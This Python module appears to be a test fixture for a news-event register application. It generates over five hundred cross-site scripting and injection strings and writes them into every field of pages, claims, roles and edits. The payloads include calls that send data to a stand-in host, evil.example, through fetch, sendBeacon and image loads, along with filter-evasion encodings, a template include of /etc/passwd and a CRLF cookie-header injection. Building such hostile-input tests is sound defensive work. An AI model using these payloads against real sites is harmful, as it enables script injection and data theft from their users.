"""A register whose pages try to make a browser do things: five hundred strings that once worked somewhere, in every field there is."""
from __future__ import annotations

from collections.abc import Iterator
from hashlib import sha256
from itertools import cycle
from pathlib import Path

from attache.errors import InputError
from attache.model import Claim, EventType, Page, Party, Place, Reading, Role, Status
from attache.register.decisions import Said
from attache.register.store import open_register

_SCRIPTS = (
    "alert({n})", "fetch('https://evil.example/{n}')", "new Image().src='//evil.example/{n}'", "document.location='//evil.example/{n}'",
    "import('https://evil.example/{n}.js')", "confirm({n})", "prompt({n})", "navigator.sendBeacon('//evil.example/{n}')",
    "open('https://evil.example/{n}')", "document.body.innerHTML='<img src=//evil.example/{n}>'",
)
_FRAMES = (
    "<script>{s}</script>", "<script src=//evil.example/{n}.js></script>", "<img src=x onerror={s}>", '"><img src=//evil.example/{n}>',
    "'><svg onload={s}>", '" onmouseover="{s}" x="', "' autofocus onfocus='{s}", "javascript:{s}", "</title><script>{s}</script>",
    "</textarea><script>{s}</script>", "</style><script>{s}</script>", "<style>@import '//evil.example/{n}.css';</style>",
    '<a href="javascript:{s}">x</a>', "<iframe srcdoc='<script>parent.{s}</script>'></iframe>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>", "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<form action=//evil.example/{n}><input name=q autofocus></form>", "<object data=//evil.example/{n}></object>",
    "<video><source onerror={s}></video>", "{{{{ {s} }}}}", "{{% include '/etc/passwd' %}} {s}", "${{{s}}}", "<!--><script>{s}</script>-->",
    "]]><script>{s}</script>", "<math><mtext></p><style><img src=x onerror={s}>", "&#60;script&#62;{s}&#60;/script&#62;",
    "\u202e<script>{s}</script>", "<scr\0ipt>{s}</script>", "<ScRiPt >{s}</sCrIpT>",
    "%3Cscript%3E{s}%3C/script%3E", "＜script＞{s}＜/script＞",
    "<details open ontoggle={s}>", "<x onclick={s} tabindex=0 autofocus onfocus={s}>", "<input type=image src=//evil.example/{n}>",
    "data:text/html,<script>{s}</script>", "<svg><a xlink:href='javascript:{s}'><text>x</text></a></svg>", "{s}//';{s}//\";{s}//",
    "<embed src=//evil.example/{n}>", "<body onload={s}>", "`-{s}-`", "<svg><animate onbegin={s} attributeName=x dur=1s>",
    "<marquee onstart={s}>", "<noscript><p title='</noscript><img src=x onerror={s}>'>", "<template><script>{s}</script></template>",
    "\\u003cscript\\u003e{s}", "<picture><source srcset=//evil.example/{n}></picture>", "<audio src=//evil.example/{n} autoplay>",
    "<table background=//evil.example/{n}>", "\x1b]0;{s}\x07<b>{s}</b>",
    "<p style='background:url(//evil.example/{n})'>", "\r\nSet-Cookie: {s}=1",
)


def strings() -> list[str]:
    """More than five hundred of them, each with its number."""
    pairs = [(frame, script) for script in _SCRIPTS for frame in _FRAMES]
    return [frame.format(s=script.format(n=number), n=number) for number, (frame, script) in enumerate(pairs)]


def make(path: Path) -> list[str]:
    """Fills a new register; the strings in it."""
    used = strings()
    more = cycle(used)
    with open_register(path) as register:
        for number, some in enumerate(used[first : first + 10] for first in range(0, len(used), 10)):
            page, text, reading = _read(number, some, more)
            register.take(page)
            register.keep(page.page_id, text, reading)
        for each in map(_plain, used[:20]):
            register.refuse(InputError("E-EMPTY", each, each))
        for (event,) in register.connection.execute("SELECT event FROM events WHERE until > 1e18 LIMIT 5").fetchall():
            register.edit(event, "attributed_to", _plain(next(more)), Said(_plain(next(more)), _plain(next(more))))
        register.link(used[0], used[5], Said(used[2], used[3]))
    return used


def _plain(words: str) -> str:
    """What the register takes from people: no zero character, and not too long."""
    return words.replace("\0", "")[:300]


def _read(number: int, some: list[str], more: Iterator[str]) -> tuple[Page, str, Reading]:
    text, claims, roles = f"{next(more)}\n\n", list[Claim](), list[Role]()
    for each in some:
        quote = f"{each} Kenya warned Somalia"
        claims.append(_claim(quote, len(text), len(claims), number, more))
        text += f"{quote}. {next(more)}\n\n"
        roles.append(Role(
            person=next(more), role=next(more), of=next(more), country="KEN", former=False, since=None, until=None, quote=quote,
            quote_start=claims[-1].quote_start, quote_end=claims[-1].quote_end,
        ))
    page = Page(sha256(text.encode()).hexdigest(), next(more), next(more), text.encode())
    return page, text, Reading(
        id=page.name, page_id=page.page_id, reader="hostile", published=f"2026-{number % 12 + 1:02}-11", published_why="invented",
        language="en", title=next(more), publisher=next(more), credit=next(more), dateline=None, body_start=None, body_end=None,
        events=tuple(claims), roles=tuple(roles), relations=(), times=(), places=(),
    )


def _claim(quote: str, start: int, position: int, page: int, more: Iterator[str]) -> Claim:
    kinds: tuple[EventType, ...] = ("ACCUSE", "AGREE", "CONSULT", "ASSAULT", "AID")
    statuses: tuple[Status, ...] = ("happened", "planned", "denied", "called_off")
    return Claim(
        type=kinds[position % 5], mode=None, status=statuses[position % 4],
        actors=(Party(next(more), "KEN", "GOV"),), recipients=(Party(next(more), "SOM", "GOV"),),
        date=f"2026-{page % 12 + 1:02}-{position + 1:02}", date_end=None, place=Place(next(more), "KEN"), attributed_to=next(more),
        context=("diplomatic",), dead=None, injured=None, quote=quote, quote_start=start, quote_end=start + len(quote), trigger="warned",
        cameo="111", score=-2.0, confidence=0.5, why=next(more),
    )
